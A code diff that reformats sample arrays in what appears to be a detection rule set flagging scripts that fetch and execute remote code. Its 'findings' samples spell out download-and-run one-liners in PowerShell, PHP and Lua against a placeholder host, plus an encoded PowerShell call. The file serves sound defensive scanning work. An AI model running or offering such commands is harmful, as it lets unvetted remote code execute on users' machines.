@@ -50,8 +50,14 @@ Installing from a registry, or running what a registry's name stands for, is no 
 It is a finding when what a web command returns reaches Invoke-Expression, a script block or a compiler;
 -OutFile writes a file, which can be looked at first.`,
       instead: POWERSHELL,
-      findings: ["```powershell\n«iex (irm https://x.example/install.ps1)»\n```", "```powershell\n«(iwr https://x.example/install.ps1).Content | iex»\n```"],
-      clean: ["```powershell\nirm https://x.example/install.ps1 -OutFile install.ps1\n```", "```powershell\nWrite-Host 'irm https://x.example/install.ps1 | iex'\n```"],
+      findings: [
+        "```powershell\n«iex (irm https://x.example/install.ps1)»\n```",
+        "```powershell\n«(iwr https://x.example/install.ps1).Content | iex»\n```",
+      ],
+      clean: [
+        "```powershell\nirm https://x.example/install.ps1 -OutFile install.ps1\n```",
+        "```powershell\nWrite-Host 'irm https://x.example/install.ps1 | iex'\n```",
+      ],
     },
   ],
   [
@@ -62,7 +68,10 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
       why: DECODED,
       instead: "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($payload))   # read it first",
       findings: ["```powershell\n«powershell -enc ZQBjAGgAbwAgAGgAaQA=»\n```"],
-      clean: ["```powershell\n[Convert]::FromBase64String('aGk=')\n```", "```powershell\npowershell -ExecutionPolicy Bypass -File install.ps1\n```"],
+      clean: [
+        "```powershell\n[Convert]::FromBase64String('aGk=')\n```",
+        "```powershell\npowershell -ExecutionPolicy Bypass -File install.ps1\n```",
+      ],
     },
   ],
   [
@@ -72,7 +81,10 @@ It is a finding when what a web command returns reaches Invoke-Expression, a scr
       title: "a script executes text that it fetched",
       why: REMOTE,
       instead: "Fetch to a file, read it, compare its checksum with the publisher's, and load the file.",
-      findings: ['```php\n<?php\n«eval(file_get_contents»("https://x.example/setup.txt"));\n```', '```lua\n«loadstring(game:HttpGet»("https://x.example/hub.lua"))()\n```'],
+      findings: [
+        '```php\n<?php\n«eval(file_get_contents»("https://x.example/setup.txt"));\n```',
+        '```lua\n«loadstring(game:HttpGet»("https://x.example/hub.lua"))()\n```',
+      ],
       clean: ['```php\n<?php\necho file_get_contents("https://x.example/news.txt");\n```'],
     },
   ],
